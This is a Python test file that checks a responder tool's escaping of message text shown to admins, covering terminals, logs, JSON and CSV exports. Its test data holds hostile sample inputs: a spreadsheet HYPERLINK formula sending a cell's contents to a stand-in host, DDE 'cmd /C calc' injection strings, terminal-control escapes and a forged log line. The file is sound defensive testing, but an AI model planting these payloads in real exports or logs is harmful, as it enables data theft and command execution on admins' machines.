"""Message and Halo text shown to an admin: escaped for terminals, inert in spreadsheets."""

from __future__ import annotations

import json
import logging

import pytest

from responder.logs import TextFormatter
from responder.terminal import csv_cell, json_text, printable, printable_lines


def test_control_characters_are_shown_escaped() -> None:
    assert printable("\x1b]0;owned\x07\x1b[2JRe: x") == "\\x1b]0;owned\\x07\\x1b[2JRe: x"
    assert printable("a\r\nb\x00\x7f\x9b") == "a\\x0d\\x0ab\\x00\\x7f\\x9b"
    assert printable("\u202egnp.exe") == "\\u202egnp.exe"


def test_ordinary_text_is_left_alone() -> None:
    text = "Re: Approval required [ID:1234] \u2013 Jürgen Müller \t 日本語 👍🏽 \\ path"
    assert printable(text) == text


def test_several_lines_keep_their_newlines_only() -> None:
    assert printable_lines("Approve\n\x1b[1A\x1b[2Kapproved\r\n") == (
        "Approve\n\\x1b[1A\\x1b[2Kapproved\\x0d\n")


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Re: [ID:1234]")',
         '\'=HYPERLINK("http://evil.example/?"&A1,"Re: [ID:1234]")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\\x0d=1+1"),
        ("  =1+1", "'  =1+1"),
        ("Re: =1+1", "Re: =1+1"),
        ("note\nwith two lines", "note\nwith two lines"),
        ("\x1b[31mred", "\\x1b[31mred"),
        (1234, 1234),
        (None, None),
        ("", ""),
    ],
)
def test_a_csv_cell_is_never_a_formula(cell: object, written: object) -> None:
    assert csv_cell(cell) == written


def test_json_escapes_what_json_leaves_raw_and_stays_the_same_json() -> None:
    data = {"subject": "\x1b[2J\x9b2J\u202e\u2028 Jürgen"}
    dumped = json_text(json.dumps(data, ensure_ascii=False))
    assert not any(ch in dumped for ch in "\x1b\x9b\u202e\u2028")
    assert "Jürgen" in dumped
    assert json.loads(dumped) == data


def test_a_log_line_cannot_drive_the_terminal_or_forge_a_line() -> None:
    record = logging.LogRecord("responder", logging.INFO, __file__, 1,
                               "%s from %s", ("<x@y>\n2026-01-01 INFO approved", "\x1b[2J"), None)
    line = TextFormatter("%(levelname)s %(message)s").format(record)
    assert line == "INFO <x@y>\\x0a2026-01-01 INFO approved from \\x1b[2J"
